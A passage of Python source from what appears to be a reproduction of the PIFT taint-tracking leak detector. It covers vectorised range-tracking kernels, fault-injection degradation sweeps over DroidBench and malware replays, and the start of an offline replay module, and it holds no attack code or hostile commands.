        # -- bulk-commit the mutation-free prefix [p, cut) --------------
        if cut > p:
            sl = slice(p, cut)
            load_count = int(_np.count_nonzero(L[sl]))
            stats.loads_observed += load_count
            stats.stores_observed += (cut - p) - load_count
            stats.tainted_loads += int(_np.count_nonzero(L[sl] & hit[sl]))
            taint_count = int(_np.count_nonzero(taint[: cut - p]))
            stats.taint_operations += taint_count
            top = int(K[sl].max())
            if top >= window.instructions_retired:
                stats.instructions_observed += (
                    top + 1 - window.instructions_retired
                )
                window.instructions_retired = top + 1
            hl_before = hl[hl < cut]
            if hl_before.size:
                last_load = int(hl_before[-1])
                last = int(K[last_load])
                props = int(
                    _np.count_nonzero(taint[last_load + 1 - p : cut - p])
                )
            elif last is not None:
                props += taint_count
        if cut >= n:
            break

        # -- a content mutation: execute its run via bulk primitives ----
        mutations += 1
        if mutations > DENSE_MAX_MUTATIONS:
            # Mutation-heavy span — each mutation costs a mask patch and
            # a re-simulation, so the scalar loop is cheaper from here.
            window.last_tainted_load = last
            window.propagations = props
            tracker.observe_columns_scalar(columns, lo + cut, run_hi)
            return n, scalar_events + (n - cut)
        other_size = tracker.tainted_bytes - state.total_size
        other_count = tracker.range_count - state.range_count
        if taint[cut - p]:
            # Maximal run of consecutive taint-decision stores: decisions
            # are content-independent, so the whole run is committed with
            # one sorted-merge bulk add.
            rest = taint[cut - p :]
            stop_rel = _np.flatnonzero(~rest)
            j = cut + (int(stop_rel[0]) if stop_rel.size else n - cut)
            pairs = list(
                zip(S[cut:j].tolist(), E[cut:j].tolist())
            )
            count_before = other_count + state.range_count
            if count_before + len(pairs) <= stats.max_range_count:
                # No intermediate step can set a new range-count
                # high-water mark (each add raises the count by at most
                # one) and tainted bytes only grow, so committing the
                # final totals reproduces per-step bookkeeping exactly.
                extent = state.add_many(pairs)
                size = other_size + state.total_size
                if size > stats.max_tainted_bytes:
                    stats.max_tainted_bytes = size
            else:
                add = state.add
                max_bytes = stats.max_tainted_bytes
                max_ranges = stats.max_range_count
                for pair_start, pair_end in pairs:
                    add(AddressRange(pair_start, pair_end))
                    size = other_size + state.total_size
                    count = other_count + state.range_count
                    if size > max_bytes:
                        max_bytes = size
                    if count > max_ranges:
                        max_ranges = count
                stats.max_tainted_bytes = max_bytes
                stats.max_range_count = max_ranges
                starts2, ends2 = state.as_arrays()
                hull_lo = int(min(s for s, _ in pairs))
                hull_hi = int(max(e for _, e in pairs))
                i0 = int(_np.searchsorted(ends2, hull_lo, side="left"))
                i1 = int(
                    _np.searchsorted(starts2, hull_hi, side="right")
                ) - 1
                extent = (int(starts2[i0]), int(ends2[i1]))
            stats.stores_observed += j - cut
            stats.taint_operations += j - cut
            props += j - cut
        else:
            # Maximal run of consecutive non-taint stores: untaint
            # candidates resolve sequentially inside remove_many (an
            # earlier untaint can void a later candidate), reported
            # per-step because a split *raises* the range count.
            rest = L[cut:] | taint[cut - p :]
            stop_rel = _np.flatnonzero(rest)
            j = cut + (int(stop_rel[0]) if stop_rel.size else n - cut)
            cand = _np.flatnonzero(hit[cut:j]) + cut
            steps = state.remove_many(
                [(int(S[i]), int(E[i])) for i in cand]
            )
            effective = [
                (i, total_after, count_after)
                for (i, (ok, total_after, count_after)) in zip(cand, steps)
                if ok
            ]
            for _, total_after, count_after in effective:
                stats.untaint_operations += 1
                size = other_size + total_after
                count = other_count + count_after
                if size > stats.max_tainted_bytes:
                    stats.max_tainted_bytes = size
                if count > stats.max_range_count:
                    stats.max_range_count = count
            stats.stores_observed += j - cut
            if effective:
                extent = (
                    int(min(S[i] for i, _, _ in effective)),
                    int(max(E[i] for i, _, _ in effective)),
                )
            else:
                extent = None
        top = int(K[cut:j].max())
        if top >= window.instructions_retired:
            stats.instructions_observed += top + 1 - window.instructions_retired
            window.instructions_retired = top + 1

        # -- patch the masks: only events overlapping the mutated extent
        #    can have changed coverage -------------------------------------
        if extent is not None and j < n:
            extent_lo, extent_hi = extent
            suspects = _np.flatnonzero(
                (S[j:] <= extent_hi) & (E[j:] >= extent_lo)
            ) + j
            if suspects.size:
                new_hit, new_contained = _overlap_masks(
                    state, S[suspects], E[suspects]
                )
                hit[suspects] = new_hit
                contained[suspects] = new_contained
        p = j
    window.last_tainted_load = last
    window.propagations = props
    return n, scalar_events


def _colour_masks(state, query_start, query_end):
    """``(hit, contained, omask, cover_mask)`` for query ranges against a
    :class:`~repro.core.colours.ColourRangeSet`.

    ``hit``/``contained`` match :func:`_overlap_masks`; ``omask`` is the
    OR of every overlapped range's colour mask (the window mask a tainted
    load would carry), ``cover_mask`` the covering range's mask for
    contained queries (the superset test for absorbed taint-adds).
    Queries overlapping a single stored range — the overwhelming case,
    since coloured intervals are coalesced per colour — resolve fully
    vectorised; the rare multi-range stragglers take a short exact loop.
    """
    starts, ends = state.as_arrays()
    nq = len(query_start)
    if not starts.size:
        zeros = _np.zeros(nq, dtype=bool)
        zmask = _np.zeros(nq, dtype=_np.uint64)
        return zeros, zeros.copy(), zmask, zmask.copy()
    rmasks = state.mask_array()
    c_end = _np.searchsorted(starts, query_end, side="right") - 1
    hit = (c_end >= 0) & (ends[_np.maximum(c_end, 0)] >= query_start)
    c_start = _np.searchsorted(starts, query_start, side="right") - 1
    contained = (c_start >= 0) & (ends[_np.maximum(c_start, 0)] >= query_end)
    first = _np.searchsorted(ends, query_start, side="left")
    last = _np.maximum(c_end, 0)
    omask = _np.where(
        hit, rmasks[_np.minimum(first, len(starts) - 1)], _np.uint64(0)
    )
    multi = hit & (last > first)
    if _np.any(multi):
        # OR the remaining overlapped ranges' masks in, sweeping by
        # overlap *depth*: iteration d ORs the (first+d)-th overlapped
        # range of every query still deep enough.  Depth is bounded by
        # the fattest query (stores are a few bytes wide), so this runs
        # a handful of vector passes instead of a python loop per query.
        depth = last - first
        top = int(depth[multi].max())
        limit = len(starts) - 1
        for d in range(1, top + 1):
            live = multi & (depth >= d)
            if not _np.any(live):
                break
            idx = _np.minimum(first + d, limit)
            omask[live] |= rmasks[idx[live]]
    cover_mask = _np.where(
        contained, rmasks[_np.maximum(c_start, 0)], _np.uint64(0)
    )
    return hit, contained, omask, cover_mask


def _dense_span_coloured(
    tracker: "PIFTTracker",
    columns: "EventColumns",
    arrays: "ColumnArrays",
    lo: int,
    limit: int,
):
    """Mask-carrying variant of :func:`_dense_span` for the coloured
    tracker (:class:`~repro.core.tracker.ColourTracker`).

    Identical window simulation — taint/untaint *classification* never
    consults masks, only coverage, so ``hit``/``contained``/the window
    evolution are computed exactly as in the plain executor.  On top of
    that it carries colour: each governing hit load's overlap mask
    becomes the window mask, a consecutive taint run (which contains no
    loads, hence has one governing window) commits with that single mask,
    and a contained taint-add only counts as content-free when its
    covering range's mask is a *superset* of the window mask — otherwise
    the add would OR new colour bits in, which is a content mutation the
    mask patch must see.  Untaints stay colour-blind (an overwrite
    destroys all taint), so the bulk remove path is unchanged.
    """
    streak = getattr(tracker, "_dense_churn_streak", 0)
    if streak >= DENSE_CHURN_STREAK:
        # Churn hysteresis: recent spans all tripped the mutation budget,
        # so classification would be thrown away again — scalar a whole
        # chunk, then probe dense once more.
        tracker._dense_churn_streak = 0
        consumed = min(REPROBE_EVERY, limit - lo)
        tracker.observe_columns_scalar(columns, lo, lo + consumed)
        return consumed, consumed
    run_hi = arrays.same_pid_run(lo, min(lo + DENSE_SPAN, limit))
    n = run_hi - lo
    if n < DENSE_MIN:
        consumed = min(SCALAR_RUN, limit - lo)
        tracker.observe_columns_scalar(columns, lo, lo + consumed)
        return consumed, consumed
    pid = int(arrays.pids[lo])
    if pid not in tracker._windows:
        tracker.state(pid)
    state = tracker._states[pid]
    window = tracker._windows[pid]
    config = tracker.config
    ni = config.window_size
    nt = config.max_propagations
    untainting = config.untainting
    stats = tracker.stats

    K = arrays.indices[lo:run_hi]
    S = arrays.starts[lo:run_hi]
    E = arrays.ends[lo:run_hi]
    L = arrays.is_load[lo:run_hi]
    stores_m = ~L

    hit, contained, omask, cover_mask = _colour_masks(state, S, E)

    last = window.last_tainted_load
    props = window.propagations
    wmask = window.colour_mask
    p = 0
    mutations = 0
    scalar_events = 0
    while p < n:
        # -- simulate window evolution under the current masks ----------
        hl = _np.flatnonzero(L[p:] & hit[p:]) + p
        seg = _np.searchsorted(hl, _np.arange(p, n), side="right") - 1
        in_seg = seg >= 0
        if hl.size:
            gov = K[hl[_np.maximum(seg, 0)]]
            gmasks = omask[hl[_np.maximum(seg, 0)]]
        else:
            gov = _np.zeros(n - p, dtype=_np.int64)
            gmasks = _np.zeros(n - p, dtype=_np.uint64)
        kk = K[p:]
        if last is not None:
            gov = _np.where(in_seg, gov, last)
            gmasks = _np.where(in_seg, gmasks, _np.uint64(wmask))
            windowed = _np.ones(n - p, dtype=bool)
        else:
            windowed = in_seg
        in_win = stores_m[p:] & windowed & (kk >= gov) & (kk <= gov + ni)
        ranks = _np.cumsum(in_win)
        if hl.size:
            base = _np.where(in_seg, ranks[hl - p][_np.maximum(seg, 0)], 0)
        else:
            base = 0
        cap = _np.where(in_seg, nt, nt - props)
        taint = in_win & (ranks - 1 - base < cap)
        if untainting:
            untaint_cand = stores_m[p:] & ~taint & hit[p:]
        else:
            untaint_cand = _np.zeros(n - p, dtype=bool)
        absorbed = contained[p:] & ((cover_mask[p:] & gmasks) == gmasks)
        content_mut = (taint & ~absorbed) | untaint_cand
        cuts = _np.flatnonzero(content_mut)
        cut = (int(cuts[0]) + p) if cuts.size else n

        # -- bulk-commit the mutation-free prefix [p, cut) --------------
        if cut > p:
            sl = slice(p, cut)
            load_count = int(_np.count_nonzero(L[sl]))
            stats.loads_observed += load_count
            stats.stores_observed += (cut - p) - load_count
            stats.tainted_loads += int(_np.count_nonzero(L[sl] & hit[sl]))
            taint_count = int(_np.count_nonzero(taint[: cut - p]))
            stats.taint_operations += taint_count
            top = int(K[sl].max())
            if top >= window.instructions_retired:
                stats.instructions_observed += (
                    top + 1 - window.instructions_retired
                )
                window.instructions_retired = top + 1
            hl_before = hl[hl < cut]
            if hl_before.size:
                last_load = int(hl_before[-1])
                last = int(K[last_load])
                props = int(
                    _np.count_nonzero(taint[last_load + 1 - p : cut - p])
                )
                wmask = int(omask[last_load])
            elif last is not None:
                props += taint_count
        if cut >= n:
            break

        # -- a content mutation: execute its run via bulk primitives ----
        mutations += 1
        if mutations > DENSE_MAX_MUTATIONS:
            window.last_tainted_load = last
            window.propagations = props
            window.colour_mask = wmask
            tracker._dense_churn_streak = streak + 1
            tracker.observe_columns_scalar(columns, lo + cut, run_hi)
            return n, scalar_events + (n - cut)
        other_size = tracker.tainted_bytes - state.total_size
        other_count = tracker.range_count - state.range_count
        if taint[cut - p]:
            # A consecutive taint run contains no loads, so one governing
            # window — and one colour mask — covers the whole run.
            gmask = int(gmasks[cut - p])
            rest = taint[cut - p :]
            stop_rel = _np.flatnonzero(~rest)
            j = cut + (int(stop_rel[0]) if stop_rel.size else n - cut)
            pairs = list(
                zip(S[cut:j].tolist(), E[cut:j].tolist())
            )
            # A coloured add spanning k gapped differently-masked ranges
            # can raise the range count by k+1 — no static per-add budget
            # proves the bulk run sets no new high-water mark (unlike the
            # plain path above, where each add raises the count by at most
            # one).  add_many_steps reports (total, count) after every
            # add, so the non-monotone maxima fold exactly as the scalar
            # loop's per-mutation bookkeeping.
            extent, steps = state.add_many_steps(pairs, gmask)
            max_bytes = stats.max_tainted_bytes
            max_ranges = stats.max_range_count
            for total_after, count_after in steps:
                size = other_size + total_after
                count = other_count + count_after
                if size > max_bytes:
                    max_bytes = size
                if count > max_ranges:
                    max_ranges = count
            stats.max_tainted_bytes = max_bytes
            stats.max_range_count = max_ranges
            stats.stores_observed += j - cut
            stats.taint_operations += j - cut
            props += j - cut
        else:
            rest = L[cut:] | taint[cut - p :]
            stop_rel = _np.flatnonzero(rest)
            j = cut + (int(stop_rel[0]) if stop_rel.size else n - cut)
            cand = _np.flatnonzero(hit[cut:j]) + cut
            steps = state.remove_many(
                [(int(S[i]), int(E[i])) for i in cand]
            )
            effective = [
                (i, total_after, count_after)
                for (i, (ok, total_after, count_after)) in zip(cand, steps)
                if ok
            ]
            for _, total_after, count_after in effective:
                stats.untaint_operations += 1
                size = other_size + total_after
                count = other_count + count_after
                if size > stats.max_tainted_bytes:
                    stats.max_tainted_bytes = size
                if count > stats.max_range_count:
                    stats.max_range_count = count
            stats.stores_observed += j - cut
            if effective:
                extent = (
                    int(min(S[i] for i, _, _ in effective)),
                    int(max(E[i] for i, _, _ in effective)),
                )
            else:
                extent = None
        top = int(K[cut:j].max())
        if top >= window.instructions_retired:
            stats.instructions_observed += top + 1 - window.instructions_retired
            window.instructions_retired = top + 1

        # -- patch the masks (coverage *and* colours) from the extent ---
        if extent is not None and j < n:
            extent_lo, extent_hi = extent
            suspects = _np.flatnonzero(
                (S[j:] <= extent_hi) & (E[j:] >= extent_lo)
            ) + j
            if suspects.size:
                new_hit, new_contained, new_omask, new_cover = _colour_masks(
                    state, S[suspects], E[suspects]
                )
                hit[suspects] = new_hit
                contained[suspects] = new_contained
                omask[suspects] = new_omask
                cover_mask[suspects] = new_cover
        p = j
    window.last_tainted_load = last
    window.propagations = props
    window.colour_mask = wmask
    tracker._dense_churn_streak = 0
    return n, scalar_events


def observe_columns(
    tracker: "PIFTTracker", columns: "EventColumns", start: int, stop: int
) -> None:
    """Algorithm 1 over ``columns[start:stop)`` with vectorised skipping
    *and* vectorised dense-regime execution.

    Alternates between bulk-skipping classified-irrelevant prefix runs
    and the dense executor (:func:`_dense_span`) on relevant events.  The
    block size doubles (up to :data:`BLOCK_MAX`) while blocks keep coming
    back fully irrelevant and resets after every relevant hit.  Slices
    where the scalar loop ends up doing most of the work (vector-handled
    share below one half after :data:`BAILOUT_AFTER` scalar events) hand
    a bounded :data:`REPROBE_EVERY` chunk to the scalar loop, then
    re-probe — so a dense-prefix/sparse-tail trace regains the fast path.

    Timeline recording forces per-mutation :class:`TimelinePoint`
    appends, which the bulk commits deliberately elide; with
    ``record_timeline`` on, relevant events take the exact scalar loop
    instead (classification/skipping is unaffected — skipped events never
    mutate).  Without numpy the whole call degrades to
    :meth:`~repro.core.tracker.PIFTTracker.observe_columns_scalar` with a
    one-shot warning (equivalent to ``--no-vectorized``).
    """
    if _np is None:
        global _numpy_fallback_warned
        if not _numpy_fallback_warned:
            _numpy_fallback_warned = True
            warnings.warn(
                "numpy is unavailable; the vectorised kernel is falling "
                "back to the scalar loop (equivalent to --no-vectorized)",
                RuntimeWarning,
                stacklevel=2,
            )
        tracker.observe_columns_scalar(columns, start, stop)
        return
    arrays = columns.arrays()
    scalar = tracker.observe_columns_scalar
    dense_ok = not tracker._record_timeline
    dense = _dense_span_coloured if tracker._coloured else _dense_span
    position = start
    block = BLOCK_MIN
    vector_handled = 0
    scalar_handled = 0
    while position < stop:
        block_end = min(position + block, stop)
        first = _first_relevant(tracker, arrays, position, block_end)
        if first > position:
            _skip_run(tracker, arrays, position, first)
            vector_handled += first - position
            position = first
        if position >= block_end:
            # Whole block irrelevant: widen the next classification.
            block = min(block * 2, BLOCK_MAX)
            continue
        # A relevant event: execute a span through the dense engine (or
        # the exact scalar loop when timeline recording demands
        # per-mutation samples), then re-sync against the updated state.
        if dense_ok:
            consumed, dense_scalar = dense(
                tracker, columns, arrays, position, stop
            )
        else:
            consumed = min(SCALAR_RUN, stop - position)
            scalar(columns, position, position + consumed)
            dense_scalar = consumed
        position += consumed
        scalar_handled += dense_scalar
        vector_handled += consumed - dense_scalar
        block = BLOCK_MIN
        if scalar_handled >= BAILOUT_AFTER:
            if vector_handled < scalar_handled:
                # Density bail-out, bounded: scalar a chunk, re-probe.
                chunk_end = min(position + REPROBE_EVERY, stop)
                scalar(columns, position, chunk_end)
                position = chunk_end
            vector_handled = 0
            scalar_handled = 0

"""Graceful-degradation analysis: PIFT accuracy under injected faults.

The paper's evaluation assumes a lossless event path; this module asks
the robustness question a hardware deployment actually faces: *how does
detection accuracy decay when the load/store stream is lossy, reordered,
corrupted, or the taint storage misbehaves?*  A :class:`~repro.core
.faults.FaultPlan` perturbs recorded runs deterministically, so the
whole sweep is replayable bit-for-bit:

* :func:`faulted_replay` — one recorded run, one config, one plan;
* :func:`degradation_curve` — DroidBench accuracy (and/or malware
  detections) as a function of a fault rate, sweeping one fault site;
* :func:`degradation_grid` — the same curve across several ``(NI, NT)``
  cells;
* :func:`detection_latency_table` — the buffered design point under
  loss: how late are detections, and how many leaks are missed outright,
  per overflow policy and fault rate.

Because fault draws are coupled across rates (common random numbers —
see :mod:`repro.core.faults`), the event set lost at a lower rate is a
subset of the set lost at a higher rate, which keeps the curves smooth
and (empirically) monotone.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.core.buffered import BufferedPIFT
from repro.core.config import OverflowPolicy, PIFTConfig
from repro.core.faults import FaultPlan, FaultRates, FaultStats
from repro.core.ranges import RangeSet
from repro.core.tracker import PIFTTracker, StateFactory
from repro.android.device import RecordedRun
from repro.analysis.accuracy import AccuracyReport, AppRun
from repro.analysis.replay import ReplayResult, SinkOutcome, replay

#: The loss rates the acceptance sweep runs (log-spaced, plus zero).
DEFAULT_RATES: Tuple[float, ...] = (0.0, 1e-4, 1e-3, 1e-2, 1e-1)


def faulted_replay(
    recorded: RecordedRun,
    config: PIFTConfig,
    plan: FaultPlan,
    state_factory: StateFactory = RangeSet,
    telemetry=None,
) -> Tuple[ReplayResult, FaultStats]:
    """Replay a recorded run with the event stream fed through a fault plan.

    Source registrations and sink checks fire at their *recorded*
    instruction indices and PIDs — the software stack's view is pristine;
    only the hardware event stream between the front end and the tracker
    is perturbed, which is where the fault sites physically live.
    """
    tracker = PIFTTracker(config, state_factory=state_factory, telemetry=telemetry)
    injector = plan.injector(telemetry=telemetry)
    result = ReplayResult(config=config, stats=tracker.stats)
    sources = sorted(recorded.sources, key=lambda s: s.instruction_index)
    checks = sorted(recorded.sink_checks, key=lambda c: c.instruction_index)
    source_i = 0
    check_i = 0

    def drain_pending(upto_index: int) -> None:
        nonlocal source_i, check_i
        while (
            source_i < len(sources)
            and sources[source_i].instruction_index <= upto_index
        ):
            source = sources[source_i]
            tracker.taint_source(source.address_range, pid=source.pid)
            source_i += 1
        while (
            check_i < len(checks)
            and checks[check_i].instruction_index <= upto_index
        ):
            check = checks[check_i]
            result.sink_outcomes.append(
                SinkOutcome(
                    sink_name=check.sink_name,
                    channel=check.channel,
                    instruction_index=check.instruction_index,
                    tainted=tracker.check(check.address_range, pid=check.pid),
                    pid=check.pid,
                )
            )
            check_i += 1

    for event in recorded.trace:
        drain_pending(event.instruction_index)
        for delivered in injector.feed(event):
            tracker.observe(delivered)
            injector.state_faults(tracker, delivered.pid)
    for delivered in injector.flush():
        tracker.observe(delivered)
        injector.state_faults(tracker, delivered.pid)
    drain_pending(recorded.instruction_count)
    return result, injector.stats


_STAT_FIELDS = (
    "events_seen", "events_dropped", "events_duplicated",
    "events_reordered", "addresses_corrupted",
    "state_entries_dropped", "eviction_storms",
    "stall_events", "stall_cycles",
)


def _accumulate(total: FaultStats, stats: FaultStats) -> None:
    for name in _STAT_FIELDS:
        setattr(total, name, getattr(total, name) + getattr(stats, name))


def evaluate_suite_with_faults(
    apps: Sequence[AppRun], config: PIFTConfig, plan: FaultPlan
) -> Tuple[AccuracyReport, FaultStats]:
    """Confusion matrix over a suite with every replay under one plan.

    Each app gets a *fresh* injector from the same plan, so per-app
    perturbations are independent of suite order.  The returned
    :class:`FaultStats` aggregates all apps.
    """
    report = AccuracyReport()
    total = FaultStats()
    for app in apps:
        result, stats = faulted_replay(app.recorded, config, plan)
        _accumulate(total, stats)
        report.record(app.name, app.leaks, result.alarm)
    return report, total


def record_malware_runs(work: int = 16, config: Optional[PIFTConfig] = None) -> List[AppRun]:
    """Record all seven malware samples once for offline faulted replays."""
    from repro.core.config import PAPER_MALWARE_MINIMUM
    from repro.apps.malware.samples import SAMPLES, run_sample

    runs: List[AppRun] = []
    for sample in SAMPLES:
        device = run_sample(sample, config=config or PAPER_MALWARE_MINIMUM, work=work)
        runs.append(
            AppRun(
                name=sample.name,
                recorded=device.recorded,
                leaks=True,
                category=sample.kind,
            )
        )
    return runs


def degradation_cells(
    apps: Sequence[AppRun],
    config: PIFTConfig,
    rates: Sequence[float] = DEFAULT_RATES,
    seed: int = 1,
    site: str = "event_loss",
    base_rates: Optional[FaultRates] = None,
    malware_runs: Optional[Sequence[AppRun]] = None,
) -> List:
    """The exact sweep cells :func:`degradation_curve` evaluates.

    Exposed separately so a caller that journals the run (the ``faults``
    CLI with ``--store``) can fingerprint the same cells the curve will
    submit — the journal's grid check then binds resume to this precise
    parameterisation.
    """
    from repro.sweep import SweepCell

    return [
        SweepCell(
            index=index,
            config=config,
            rate=rate,
            site=site,
            seed=seed,
            base_rates=base_rates,
            droidbench=bool(apps),
            malware=bool(malware_runs),
        )
        for index, rate in enumerate(rates)
    ]


@dataclass
class DegradationPoint:
    """One cell of a degradation curve: a fault rate and what it cost."""

    rate: float
    config: PIFTConfig
    report: Optional[AccuracyReport] = None
    malware_detected: Optional[int] = None
    malware_total: Optional[int] = None
    fault_stats: FaultStats = field(default_factory=FaultStats)

    @property
    def accuracy(self) -> Optional[float]:
        return self.report.accuracy if self.report is not None else None

    def as_dict(self) -> dict:
        payload: dict = {
            "rate": self.rate,
            "ni": self.config.window_size,
            "nt": self.config.max_propagations,
            "faults": self.fault_stats.as_dict(),
        }
        if self.report is not None:
            payload["accuracy"] = self.report.accuracy
            payload["report"] = self.report.as_dict()
        if self.malware_total is not None:
            payload["malware_detected"] = self.malware_detected
            payload["malware_total"] = self.malware_total
        return payload


@dataclass
class DegradationCurve:
    """Accuracy (and/or malware detections) as a function of a fault rate."""

    config: PIFTConfig
    site: str
    seed: int
    points: List[DegradationPoint] = field(default_factory=list)

    def accuracy_non_increasing(self, tolerance: float = 0.0) -> bool:
        """True when accuracy never *rises* as the fault rate grows."""
        values = [p.accuracy for p in self.points if p.accuracy is not None]
        return all(
            later <= earlier + tolerance
            for earlier, later in zip(values, values[1:])
        )

    def malware_non_increasing(self) -> bool:
        values = [
            p.malware_detected
            for p in self.points
            if p.malware_detected is not None
        ]
        return all(b <= a for a, b in zip(values, values[1:]))

    def as_dict(self) -> dict:
        return {
            "ni": self.config.window_size,
            "nt": self.config.max_propagations,
            "untainting": self.config.untainting,
            "site": self.site,
            "seed": self.seed,
            "points": [point.as_dict() for point in self.points],
        }


def degradation_curve(
    apps: Sequence[AppRun],
    config: PIFTConfig,
    rates: Sequence[float] = DEFAULT_RATES,
    seed: int = 1,
    site: str = "event_loss",
    base_rates: Optional[FaultRates] = None,
    malware_runs: Optional[Sequence[AppRun]] = None,
    jobs: int = 1,
    telemetry=None,
    progress=None,
    cache=None,
    journal=None,
    stall_timeout: Optional[float] = None,
    on_stall=None,
) -> DegradationCurve:
    """Sweep one fault site's rate; evaluate the suite at each point.

    ``site`` names any rate field of :class:`FaultRates` (``event_loss``
    by default); ``base_rates`` seeds the other sites (all-zero when
    omitted).  When ``malware_runs`` is given, each point also counts how
    many of those (all-leaky) runs still raise an alarm.

    Points are evaluated by the :mod:`repro.sweep` engine — pass
    ``jobs > 1`` to fan rates across worker processes; results are
    identical at any worker count.  (A zero-rate point replays through
    the batched fast path instead of the fault injector, so its
    ``fault_stats`` report zero events seen — injections are impossible
    at rate 0 either way.)

    ``cache`` overrides the internally-built :class:`TraceCache` (the
    CLI passes a store-backed one so recordings persist across
    invocations); ``journal`` (:class:`repro.store.RunJournal`)
    checkpoints each point and resumes a killed sweep; ``stall_timeout``
    / ``on_stall`` arm the telemetry relay's straggler detector — all
    forwarded to :func:`repro.sweep.run_sweep`.
    """
    from repro.sweep import TraceCache, run_sweep

    cells = degradation_cells(
        apps, config, rates=rates, seed=seed, site=site,
        base_rates=base_rates, malware_runs=malware_runs,
    )
    if cache is None:
        cache = TraceCache(
            droidbench=list(apps) if apps else None,
            malware=list(malware_runs) if malware_runs else None,
        )
    result = run_sweep(
        cells, cache=cache, jobs=jobs, telemetry=telemetry,
        progress=progress, journal=journal,
        stall_timeout=stall_timeout, on_stall=on_stall,
    )
    curve = DegradationCurve(config=config, site=site, seed=seed)
    for cell in result.cells:
        curve.points.append(
            DegradationPoint(
                rate=cell.rate,
                config=config,
                report=cell.report,
                malware_detected=cell.malware_detected,
                malware_total=cell.malware_total,
                fault_stats=cell.fault_stats,
            )
        )
    return curve


def degradation_grid(
    apps: Sequence[AppRun],
    configs: Sequence[PIFTConfig],
    rates: Sequence[float] = DEFAULT_RATES,
    seed: int = 1,
    site: str = "event_loss",
    jobs: int = 1,
    telemetry=None,
) -> Dict[Tuple[int, int], DegradationCurve]:
    """One degradation curve per ``(NI, NT)`` cell.

    The whole ``configs × rates`` product is flattened into a single
    sweep, so ``jobs`` parallelises across cells of *all* curves at once.
    """
    from repro.sweep import SweepCell, TraceCache, run_sweep

    configs = list(configs)
    rates = list(rates)
    cells = [
        SweepCell(
            index=index,
            config=config,
            rate=rate,
            site=site,
            seed=seed,
        )
        for index, (config, rate) in enumerate(
            (config, rate) for config in configs for rate in rates
        )
    ]
    result = run_sweep(
        cells, cache=TraceCache(droidbench=list(apps)), jobs=jobs,
        telemetry=telemetry,
    )
    grid: Dict[Tuple[int, int], DegradationCurve] = {}
    for position, config in enumerate(configs):
        curve = DegradationCurve(config=config, site=site, seed=seed)
        for cell in result.cells[
            position * len(rates):(position + 1) * len(rates)
        ]:
            curve.points.append(
                DegradationPoint(
                    rate=cell.rate,
                    config=config,
                    report=cell.report,
                    fault_stats=cell.fault_stats,
                )
            )
        grid[(config.window_size, config.max_propagations)] = curve
    return grid


@dataclass
class LatencyRow:
    """Detection latency of the buffered design point at one fault rate."""

    rate: float
    policy: str
    oracle_positives: int  # sink checks tainted in the fault-free replay
    immediate_positives: int  # answered tainted at check time
    late_detections: int  # caught at a later drain (stale negatives)
    missed: int  # oracle-positive checks never reported at all
    mean_events_behind: float
    max_events_behind: int
    forced_drops: int
    degraded_checks: int

    def as_dict(self) -> dict:
        return {
            "rate": self.rate,
            "policy": self.policy,
            "oracle_positives": self.oracle_positives,
            "immediate_positives": self.immediate_positives,
            "late_detections": self.late_detections,
            "missed": self.missed,
            "mean_events_behind": self.mean_events_behind,
            "max_events_behind": self.max_events_behind,
            "forced_drops": self.forced_drops,
            "degraded_checks": self.degraded_checks,
        }


def detection_latency_table(
    recorded: RecordedRun,
    config: PIFTConfig,
    rates: Sequence[float] = DEFAULT_RATES,
    seed: int = 1,
    site: str = "event_loss",
    base_rates: Optional[FaultRates] = None,
    policy: OverflowPolicy = OverflowPolicy.BLOCK,
    capacity: int = 256,
    drain_batch: int = 64,
) -> List[LatencyRow]:
    """Detection-latency-under-loss for one recorded run (paper §1 trade).

    The run is replayed through :class:`BufferedPIFT` with immediate
    (detection-semantics) sink checks; the fault-free :func:`replay`
    serves as the oracle for which checks *should* be positive.  Late
    detections' ``events_behind`` is the latency; oracle positives that
    neither the immediate answer nor a late detection report are counted
    as missed.
    """
    oracle = replay(recorded, config)
    oracle_positives = sum(1 for o in oracle.sink_outcomes if o.tainted)
    sources = sorted(recorded.sources, key=lambda s: s.instruction_index)
    checks = sorted(recorded.sink_checks, key=lambda c: c.instruction_index)
    rows: List[LatencyRow] = []
    for rate in rates:
        plan = FaultPlan(
            seed=seed, rates=base_rates or FaultRates()
        ).with_rates(**{site: rate})
        buffered = BufferedPIFT(
            config,
            capacity=capacity,
            drain_batch=drain_batch,
            policy=policy,
            faults=plan if plan.enabled else None,
        )
        source_i = check_i = 0
        immediate_positives = 0

        def drain_pending(upto_index: int) -> None:
            nonlocal source_i, check_i, immediate_positives
            while (
                source_i < len(sources)
                and sources[source_i].instruction_index <= upto_index
            ):
                source = sources[source_i]
                buffered.taint_source(source.address_range, pid=source.pid)
                source_i += 1
            while (
                check_i < len(checks)
                and checks[check_i].instruction_index <= upto_index
            ):
                check = checks[check_i]
                verdict = buffered.check_immediate_verdict(
                    check.address_range, pid=check.pid,
                    sink_name=check.sink_name,
                )
                immediate_positives += int(verdict.tainted)
                check_i += 1

        for event in recorded.trace:
            drain_pending(event.instruction_index)
            buffered.on_memory_event(event)
        buffered.drain_all()
        drain_pending(recorded.instruction_count)
        buffered.drain_all()

        behind = [late.events_behind for late in buffered.late_detections]
        rows.append(
            LatencyRow(
                rate=rate,
                policy=policy.value,
                oracle_positives=oracle_positives,
                immediate_positives=immediate_positives,
                late_detections=len(behind),
                missed=max(
                    0, oracle_positives - immediate_positives - len(behind)
                ),
                mean_events_behind=(
                    sum(behind) / len(behind) if behind else 0.0
                ),
                max_events_behind=max(behind) if behind else 0,
                forced_drops=buffered.stats.forced_drops,
                degraded_checks=buffered.stats.degraded_checks,
            )
        )
    return rows

"""Offline replay: re-run a recorded execution under any PIFT configuration.

The paper's methodology (§5): app executions are traced once on the
simulator, and "the PIFT analysis code" consumes the trace together with
the source/sink address ranges.  That makes parameter sweeps cheap — the
200-point Figure 11/14/17 grids re-run the *tracker*, not the app.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.core.config import PIFTConfig
from repro.core.ranges import RangeSet
from repro.core.tracker import PIFTTracker, StateFactory, TrackerStats
from repro.android.device import RecordedRun


@dataclass(frozen=True)
class SinkOutcome:
    """The tracker's verdict for one recorded sink check."""

    sink_name: str
    channel: str
    instruction_index: int
    tainted: bool


@dataclass
class ReplayResult:
    """Outcome of replaying one recorded run under one configuration."""

    config: PIFTConfig
    stats: TrackerStats
    sink_outcomes: List[SinkOutcome] = field(default_factory=list)

    @property
    def alarm(self) -> bool:
        """Did any sink check come back tainted (the app-level verdict)?"""
